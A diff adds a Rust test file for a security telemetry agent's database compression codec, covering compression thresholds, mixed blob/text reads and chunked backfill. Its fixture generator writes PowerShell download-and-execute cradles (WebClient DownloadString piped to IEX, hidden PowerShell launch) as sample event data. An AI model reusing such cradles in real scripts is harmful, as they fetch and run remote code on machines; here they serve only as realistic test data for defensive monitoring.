@@ -0,0 +1,166 @@
+// tests/db_compression.rs
+
+mod common;
+
+use std::{thread::sleep, time::{Duration, SystemTime}};
+use rusqlite::{types::Value, Connection};
+use tempfile::tempdir;
+use tokio::{runtime::Runtime, sync::mpsc};
+use shared::events::{EtwEvent, ProcessEvent};
+
+use agent::{
+    comms::WrappedEvent,
+    config::model::DatabaseConfig,
+    db::{
+        codec::{backfill_chunk, decode, is_compressed, Codec, StoredText},
+        connection::init_database,
+        db_writer::DbError,
+        event_types::ETW_EVENTS,
+        schema_registry::ensure_for,
+        spawn_writer,
+    },
+    util::Shutdown,
+};
+use common::wrap;
+
+fn db_cfg(columns: &[&str]) -> DatabaseConfig {
+    let mut cfg = common::db_cfg();
+    cfg.flush_interval_ms = 20;
+    cfg.compress_columns = columns.iter().map(|c| c.to_string()).collect();
+    cfg.compress_threshold = 256;
+    cfg
+}
+
+/// PowerShell script-block payload in the shape the dictionary was trained on.
+fn script_block(i: usize) -> String {
+    let script: String = (0..6)
+        .map(|n| format!(
+            "$c{n} = New-Object System.Net.WebClient; IEX $c{n}.DownloadString('http://10.0.{n}.{i}/a.ps1'); \\r\\n\
+             Get-Process | Where-Object {{ $_.Id -eq {i}{n} }} | Select-Object Name, Id, Path; \\r\\n"
+        ))
+        .collect();
+    format!(
+        r#"{{"MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"{script}Start-Process powershell.exe -WindowStyle Hidden -NoProfile","ScriptBlockId":"{{6A2F{i:04}-1C3E-4B8A-9F00-00C04FD430C8}}","Path":""}}"#
+    )
+}
+
+#[test]
+fn round_trip_and_threshold() {
+    let mut codec = Codec::new(&db_cfg(&["etw_events.json_payload"])).unwrap();
+
+    let big = script_block(7);
+    let Value::Blob(blob) = codec.encode("etw_events.json_payload", &big) else {
+        panic!("large payload must be compressed");
+    };
+    assert!(is_compressed(&blob));
+    assert!(blob.len() < big.len() / 2, "{} vs {}", blob.len(), big.len());
+    assert_eq!(decode(&blob).unwrap(), big);
+
+    // Below threshold, or a column not configured: stored as-is.
+    assert_eq!(codec.encode("etw_events.json_payload", "{}"), Value::Text("{}".into()));
+    assert_eq!(codec.encode("process_events.cmdline", &big), Value::Text(big.clone()));
+    assert_eq!(Codec::disabled().encode("etw_events.json_payload", &big), Value::Text(big));
+}
+
+#[test]
+fn unknown_column_is_rejected() {
+    let dir = tempdir().unwrap();
+    let cfg = db_cfg(&["fs_events.sha256"]);
+    assert!(matches!(Codec::new(&cfg), Err(DbError::InvalidConfig(_))));
+    assert!(matches!(init_database(dir.path(), &cfg), Err(DbError::InvalidConfig(_))));
+}
+
+#[test]
+fn writer_stores_compressed_and_reads_mixed() {
+    let dir = tempdir().unwrap();
+    let cfg = db_cfg(&["etw_events.json_payload", "process_events.cmdline"]);
+    let conn = init_database(dir.path(), &cfg).unwrap();
+    let rt = Runtime::new().unwrap();
+
+    let (tx, rx) = mpsc::channel::<WrappedEvent<EtwEvent>>(16);
+    spawn_writer(&rt, conn, rx, &cfg, &Shutdown::new());
+    let payloads = [script_block(1), "{\"small\":true}".to_string(), script_block(2)];
+    let mut uids = Vec::new();
+    for p in &payloads {
+        let ev = wrap(SystemTime::now(), EtwEvent { provider_guid: "p".into(), json_payload: p.clone(), ..Default::default() });
+        uids.push(ev.event_uid());
+        tx.blocking_send(ev).unwrap();
+    }
+    drop(tx);
+    sleep(Duration::from_millis(200));
+
+    let conn = Connection::open(dir.path().join("telemetry.db")).unwrap();
+    let mut stmt = conn
+        .prepare("SELECT typeof(json_payload), json_payload, event_uid FROM etw_events ORDER BY id")
+        .unwrap();
+    let rows: Vec<(String, StoredText, i64)> = stmt
+        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
+        .unwrap()
+        .collect::<Result<_, _>>()
+        .unwrap();
+
+    assert_eq!(rows.iter().map(|r| r.0.as_str()).collect::<Vec<_>>(), vec!["blob", "text", "blob"]);
+    assert_eq!(rows.iter().map(|r| r.1 .0.clone()).collect::<Vec<_>>(), payloads);
+    // Ids are hashed over the uncompressed payload.
+    assert_eq!(rows.iter().map(|r| r.2).collect::<Vec<_>>(), uids);
+
+    // Process command lines go through the same codec.
+    let (tx, rx) = mpsc::channel::<WrappedEvent<ProcessEvent>>(4);
+    spawn_writer(&rt, Connection::open(dir.path().join("telemetry.db")).unwrap(), rx, &cfg, &Shutdown::new());
+    let cmdline = format!("powershell.exe {}", script_block(3));
+    tx.blocking_send(wrap(SystemTime::now(), ProcessEvent { pid: 1, ppid: 0, image_path: "C:\\ps.exe".into(), cmdline: cmdline.clone(), ..ProcessEvent::default() })).unwrap();
+    drop(tx);
+    sleep(Duration::from_millis(200));
+    let (kind, text): (String, StoredText) = conn
+        .query_row("SELECT typeof(cmdline), cmdline FROM process_events", [], |r| Ok((r.get(0)?, r.get(1)?)))
+        .unwrap();
+    assert_eq!((kind.as_str(), text.0), ("blob", cmdline));
+}
+
+#[test]
+fn backfill_compresses_existing_rows_in_chunks() {
+    let dir = tempdir().unwrap();
+    // Fixture written before compression was enabled.
+    drop(init_database(dir.path(), &db_cfg(&[])).unwrap());
+    let conn = Connection::open(dir.path().join("telemetry.db")).unwrap();
+    ensure_for(&conn, &ETW_EVENTS.schema).unwrap();
+    for i in 0..120 {
+        let payload = if i % 4 == 0 { format!("{{\"n\":{i}}}") } else { script_block(i) };
+        conn.execute(
+            "INSERT INTO etw_events (ts, provider_guid, event_id, json_payload) VALUES (?1, 'p', 4104, ?2)",
+            (i as i64, &payload),
+        ).unwrap();
+    }
+    let stored_bytes = |conn: &Connection| -> i64 {
+        conn.query_row("SELECT SUM(length(CAST(json_payload AS BLOB))) FROM etw_events", [], |r| r.get(0)).unwrap()
+    };
+    let before = stored_bytes(&conn);
+    let originals: Vec<String> = conn
+        .prepare("SELECT json_payload FROM etw_events ORDER BY id").unwrap()
+        .query_map([], |r| r.get(0)).unwrap()
+        .collect::<Result<_, _>>().unwrap();
+
+    let mut codec = Codec::new(&db_cfg(&["etw_events.json_payload"])).unwrap();
+    let (mut after, mut chunks, mut compressed, mut saved) = (0, 0, 0, 0);
+    loop {
+        let step = backfill_chunk(&conn, &mut codec, "etw_events.json_payload", after, 25).unwrap();
+        let Some(id) = step.last_id else { break };
+        assert!(step.compressed <= 25);
+        (after, chunks) = (id, chunks + 1);
+        compressed += step.compressed;
+        saved += step.bytes_saved;
+    }
+    assert_eq!(compressed, 90);
+    assert_eq!(chunks, 4);
+    assert_eq!(before - stored_bytes(&conn), saved as i64);
+    assert!(stored_bytes(&conn) * 2 < before, "expected at least 2x reduction");
+
+    let read: Vec<String> = conn
+        .prepare("SELECT json_payload FROM etw_events ORDER BY id").unwrap()
+        .query_map([], |r| r.get::<_, StoredText>(0).map(|t| t.0)).unwrap()
+        .collect::<Result<_, _>>().unwrap();
+    assert_eq!(read, originals);
+
+    // Idempotent: nothing left to do.
+    assert_eq!(backfill_chunk(&conn, &mut codec, "etw_events.json_payload", 0, 25).unwrap().compressed, 0);
+}